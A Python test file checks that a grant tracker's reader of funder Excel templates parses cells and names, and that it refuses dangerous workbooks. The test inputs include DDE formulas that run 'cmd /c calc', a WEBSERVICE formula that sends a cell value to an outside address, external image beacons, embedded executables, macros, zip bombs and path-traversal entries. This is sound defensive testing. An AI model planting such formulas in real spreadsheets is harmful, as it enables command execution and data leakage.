"""Reading a funder's workbook: its cells, formulas, merged cells and named ranges."""

from __future__ import annotations

from io import BytesIO
from typing import TYPE_CHECKING
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from openpyxl import Workbook

from tests.readers import bombs
from tests.reports.funder_template import FIRST, TOTAL, funder_template, parts_of
from tracker.domain.errors import FileRefused, RuleViolation
from tracker.domain.funder_workbooks import TemplateCell
from tracker.readers import template_process
from tracker.readers.funder_workbooks import CELLS_MAX, read_template
from tracker.readers.template_process import template_in

if TYPE_CHECKING:
    from pathlib import Path

TEMPLATE = funder_template()
COSTS = "Kosten 2023"


def rebuilt(**changed: tuple[bytes, bytes]) -> bytes:
    """The template with a part in which one thing was written otherwise."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as made:
        for name, content in parts_of(TEMPLATE).items():
            part = name.rpartition("/")[2].removesuffix(".xml")
            before, after = changed.get(part, (b"", b""))
            assert before in content
            made.writestr(name, content.replace(before, after, 1) if before else content)
    return out.getvalue()


def test_sheets_cells_formulas_and_names_are_read() -> None:
    template = template_in(TEMPLATE, "form.xlsx")
    assert [(sheet.name, sheet.is_hidden) for sheet in template.sheets] == [
        ("Voorblad", False),
        (COSTS, False),
        ("Lijsten", True),
        ("Systeem", True),
    ]
    costs = template.sheet(COSTS)
    assert costs is not None
    assert costs.cells[f"B{FIRST}"] == TemplateCell("Loonkosten")
    assert costs.cells[f"D{TOTAL}"] == TemplateCell("0", is_text=False, is_formula=True)
    assert f"D{FIRST}" not in costs.cells
    assert costs.merged == ("A1:F1",)
    assert template.names == {
        "totaal": (COSTS, f"D{TOTAL}"),
        "peildatum": ("Voorblad", "C7"),
        "ontvangen": (COSTS, "D16"),
    }
    assert template.sheet("Weg") is None


def test_the_process_reads_what_the_reader_reads(tmp_path: Path) -> None:
    path = tmp_path / "form.xlsx"
    path.write_bytes(TEMPLATE)
    assert read_template(path, "form.xlsx") == template_in(TEMPLATE, "form.xlsx")


def test_a_formula_that_was_never_computed_is_one_all_the_same() -> None:
    content = rebuilt(sheet2=(b"</f><v>0</v>", b"</f>"))
    costs = template_in(content, "form.xlsx").sheet(COSTS)
    assert costs is not None
    assert costs.cells[f"F{FIRST}"].is_formula


def test_cells_that_a_row_of_results_covers_count_as_formulas() -> None:
    content = rebuilt(sheet2=(b"<f>C9-E9</f>", b'<f t="array" ref="F9:G9">C9:D9</f>'))
    costs = template_in(content, "form.xlsx").sheet(COSTS)
    assert costs is not None
    assert costs.cells["G9"].is_formula


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"PK\x03\x04", "the list of its parts cannot be read"),
        (b"\xd0\xcf\x11\xe0 old", "from before 2007"),
        (rebuilt(sheet1=(b'<c r="B4"', b"<c")), "Cells of row 4 do not say where they stand"),
        (rebuilt(sheet1=(b"<sheetData>", b"<!-- x --><sheetData>")), "comments or instructions"),
        (
            rebuilt(workbook=(b"<workbook ", b"<!DOCTYPE x><workbook ")),
            "declares a document type|DOCTYPE|document type",
        ),
    ],
)
def test_what_is_no_form_is_refused(content: bytes, said: str) -> None:
    with pytest.raises(RuleViolation, match=said) as refusal:
        template_in(content, "form.xlsx")
    assert refusal.value.field == "document"


LINKED = "xl/externalLinks/externalLink1.xml"
RELATED = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
PICTURE = (
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/image" Target="http://192.0.2.1/seen.png" TargetMode="External"/>'
    b"</Relationships>"
)


def with_part(part: str, content: bytes) -> bytes:
    """The template with a part more."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as made:
        for name, kept in (*parts_of(TEMPLATE).items(), (part, content)):
            made.writestr(name, kept)
    return out.getvalue()


def asking(formula: bytes) -> bytes:
    """The template with another formula in F9."""
    return rebuilt(sheet2=(b"<f>C9-E9</f>", b"<f>%s</f>" % formula))


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (
            with_part(LINKED, b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/>"
                              b"</externalLink>"),
            "holds other programs: DDE cmd",
        ),
        (
            with_part(LINKED, b"<externalLink><oleLink progId='Word.Document'/></externalLink>"),
            "OLE Word.Document",
        ),
        (with_part(LINKED, b"<externalLink/>"), f"contents over from elsewhere: {LINKED}"),
        (
            with_part("xl/drawings/_rels/drawing9.xml.rels", RELATED + PICTURE),
            r"elsewhere: http://192\.0\.2\.1/seen\.png",
        ),
        (with_part("xl/connections.xml", b"<connections/>"), "fetches figures .*connections"),
        (with_part("xl/embeddings/oleObject1.bin", b"MZ"), r"other programs: .*oleObject1\.bin"),
        (with_part("xl/activeX/activeX1.xml", b"<ocx/>"), "other programs: .*activeX1"),
        (asking(b'_xlfn.WEBSERVICE("http://192.0.2.1/?"&amp;C9)'), f"another program: {COSTS}!F9"),
        (asking(b"cmd|'/c calc'!A0"), f"another program: {COSTS}!F9"),
        (asking(b'DDE("soffice","a.ods","A1")'), f"another program: {COSTS}!F9"),
        (
            rebuilt(workbook=(b"Voorblad!$C$7", b"_xlfn.IMAGE(&quot;http://192.0.2.1&quot;)")),
            "another program: peildatum",
        ),
        (with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "holds macros"),
        (bombs.a_password(), "locked with a password"),
        (bombs.zip_bomb(), "unpacks to"),
        (bombs.names_that_lead_outside(), "leads out of it"),
    ],
)  # fmt: skip
def test_what_would_reach_outside_or_do_harm_is_refused_with_what_it_is(
    content: bytes, said: str
) -> None:
    with pytest.raises(RuleViolation, match=said) as refusal:
        template_in(content, "form.xlsx")
    assert refusal.value.field == "document"
    assert str(refusal.value.hint)


@pytest.mark.parametrize(
    "content",
    [
        asking(b'IF(C9&gt;0,"DDE(a|b)","RTD()")'),
        asking(b"'Kosten 2023'!C9"),
        asking(b'HYPERLINK("https://funder.example/form","form")'),
        with_part("xl/media/image9.png", b"\x89PNG"),
        with_part(
            "xl/drawings/_rels/drawing9.xml.rels",
            RELATED + PICTURE.replace(b"relationships/image", b"relationships/hyperlink"),
        ),
    ],
)
def test_what_stays_within_the_workbook_is_taken(content: bytes) -> None:
    assert template_in(content, "form.xlsx").sheets


def test_a_list_is_no_form(tmp_path: Path) -> None:
    book, path = Workbook(write_only=True), tmp_path / "list.xlsx"
    sheet = book.create_sheet("Lijst")
    for at in range(CELLS_MAX // 10 + 1):
        sheet.append([at] * 10)
    book.save(path)
    with pytest.raises(FileRefused) as refusal:
        read_template(path, "list.xlsx")
    assert f"at most {CELLS_MAX}" in str(refusal.value.findings[0])


def test_what_takes_more_than_the_process_may_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    assert template_in(TEMPLATE, "form.xlsx").sheets
    monkeypatch.setattr(template_process, "WALL_SECONDS", 0.01)
    with pytest.raises(RuleViolation, match="within the limits of memory and time"):
        template_in(TEMPLATE, "form.xlsx")
